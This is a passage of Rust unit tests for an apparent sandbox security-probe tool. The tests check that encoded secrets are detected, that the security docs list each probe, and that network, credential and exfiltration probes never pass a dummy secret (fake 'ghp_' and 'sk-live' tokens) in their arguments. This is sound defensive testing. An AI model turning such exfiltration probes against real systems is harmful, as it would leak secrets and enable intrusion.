        for prefix in ["", "a", "ab", "abc"] {
            let enc =
                base64::engine::general_purpose::STANDARD.encode(format!("{prefix}{secret}suffix"));
            assert!(
                n.iter().any(|x| enc.contains(x.as_str())),
                "prefix {prefix:?}: {enc}"
            );
        }
        assert!(n.contains(&hex::encode(secret)));
    }

    #[test]
    fn the_security_page_lists_every_probe() {
        let page = include_str!("../../docs/security.md");
        let ctx = Context {
            all_port_targets: vec!["172.17.0.1".parse().unwrap()],
            auth_route: Some("api.example.test".into()),
            plain_route: Some("plain.example.test".into()),
            has_secret: true,
            ..Context::default()
        };
        for pr in all(&ctx) {
            assert!(
                page.contains(&format!("| `{}` | {} |", pr.id, pr.case)),
                "docs/security.md does not list `{}` ({})",
                pr.id,
                pr.case
            );
        }
    }

    #[test]
    fn probes_cover_the_groups_and_never_carry_the_secret() {
        let ctx = Context {
            all_port_targets: vec!["172.17.0.1".parse().unwrap()],
            common_port_targets: vec![],
            auth_route: Some("api.example.test".into()),
            plain_route: Some("plain.example.test".into()),
            has_secret: true,
            scanner_bait: "ghp_Q7rT2mX9vLk4Wn8Zp3Hs6Jd1Fy5Bc0Ae2Gu7".into(),
            exfil_label: "a".repeat(40),
            gvisor: false,
        };
        let probes = all(&ctx);
        for case in [
            "N1", "N2", "N3", "N5", "N6", "N7", "N8", "N9", "N10", "N11", "N12", "N13", "N14",
            "N15", "C1", "C2", "E1", "E2", "E3", "E4",
        ] {
            assert!(
                probes.iter().any(|p| p.case.split(' ').any(|c| c == case)),
                "no probe for {case}"
            );
        }
        let secret = "sk-live-9fK2pQ7xLm3Rt8Vw";
        for pr in &probes {
            let spec = pr.spec("c", Some(secret));
            assert!(spec.argv().iter().all(|a| !a.contains(secret)));
            if pr.needles_on_stdin {
                assert!(spec.stdin.as_ref().is_some_and(|s| !s.is_empty()));
            }
        }
    }
}
